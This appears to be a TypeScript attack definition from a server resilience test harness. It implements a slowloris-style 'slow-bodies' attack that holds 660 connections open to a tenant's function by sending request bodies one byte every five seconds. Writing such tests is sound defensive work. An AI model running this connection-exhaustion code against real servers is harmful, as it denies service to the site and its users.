import type { Attack } from '../attack.ts';
import { openSocket } from '../clients.ts';

const CONNECTIONS = 660;
const BYTE_EVERY_MS = 5_000;

/** From one address, to the very module that Alice's visitors want. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: `${CONNECTIONS} connections of one client send bodies to Alice's function byte by byte`,
  prepare() {
    // It needs no folder of its own.
  },
  async attack({ port }, signal) {
    const sendOne = async (): Promise<void> => {
      while (!signal.aborted) {
        const socket = await openSocket(port).catch(() => undefined);
        if (socket === undefined) continue;
        const over = new Promise((resolve) => socket.once('close', resolve));
        signal.addEventListener('abort', () => socket.destroy());
        socket.resume();
        socket.write(
          'POST /hello.wasm HTTP/1.1\r\nHost: alice.example\r\nContent-Length: 1000\r\n\r\n',
        );
        const drip = setInterval(() => socket.write('x'), BYTE_EVERY_MS);
        await over;
        clearInterval(drip);
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, sendOne));
  },
};
